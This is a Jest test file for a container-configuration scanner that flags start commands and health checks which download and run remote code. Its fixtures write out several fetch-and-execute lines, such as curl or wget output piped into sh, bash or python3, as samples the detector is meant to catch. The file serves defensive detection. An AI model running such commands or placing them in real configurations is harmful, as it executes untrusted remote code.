import * as fc from 'fast-check';

import { evaluateStartCommands } from './start-command.js';

const nothing = { entrypoint: [], cmd: [] };

describe('evaluateStartCommands', () => {
  it.each<[string, { entrypoint?: string[]; cmd?: string[]; healthcheck?: string[] }, string, string]>([
    ['a shell command', { cmd: ['/bin/sh', '-c', 'curl -s http://198.51.100.8/i | sh; node a.js'] }, 'command', 'sh'],
    [
      'an entrypoint that the command completes',
      { entrypoint: ['bash', '-c'], cmd: ['wget -qO- https://a.example/x | bash'] },
      'command',
      'bash',
    ],
    [
      'a command without a shell of its own',
      { cmd: ['curl', 'https://a.example/x', '|', 'python3'] },
      'command',
      'python3',
    ],
    [
      'a file that is run later',
      { cmd: ['sh', '-c', 'curl -o /tmp/a https://a.example/x && sh /tmp/a'] },
      'command',
      'sh',
    ],
    ['a health check', { healthcheck: ['CMD-SHELL', 'curl -s https://a.example/h | sh'] }, 'healthcheck', 'sh'],
  ])('reports %s that runs a download', (_what, config, field, runBy) => {
    const found = evaluateStartCommands({ ...nothing, ...config });
    expect(found).toMatchObject([
      { id: 'start-download-and-run', kind: 'supply-chain', severity: 'high', evidence: { field, runBy } },
    ]);
  });

  it('contains neither path nor password of the URL', () => {
    const found = evaluateStartCommands({ ...nothing, cmd: ['sh', '-c', 'curl https://u:pw@a.example/token | sh'] });
    expect(found).toMatchObject([{ evidence: { origin: 'https://a.example' } }]);
    expect(JSON.stringify(found)).not.toMatch(/pw|token/);
  });

  it.each([
    { cmd: ['node', 'server.js'] },
    { entrypoint: ['/docker-entrypoint.sh'], cmd: ['nginx', '-g', 'daemon off;'] },
    { cmd: ['sh', '-c', 'curl -sf https://config.example/app.json -o /etc/app.json && exec app'] },
    { cmd: [], healthcheck: ['CMD-SHELL', 'curl -f http://localhost:8080/health || exit 1'] },
    { cmd: ['sh', '-c', 'wget -qO- http://localhost/ready | grep -q ok'] },
  ])('ignores %j', (config) => {
    expect(evaluateStartCommands({ ...nothing, ...config })).toEqual([]);
  });

  it('ends for any words', () => {
    fc.assert(fc.property(fc.array(fc.string()), (cmd) => Array.isArray(evaluateStartCommands({ ...nothing, cmd }))));
    expect(
      evaluateStartCommands({ ...nothing, cmd: Array.from({ length: 50_000 }, () => 'curl $(') }).length,
    ).toBeLessThan(10);
  });
});
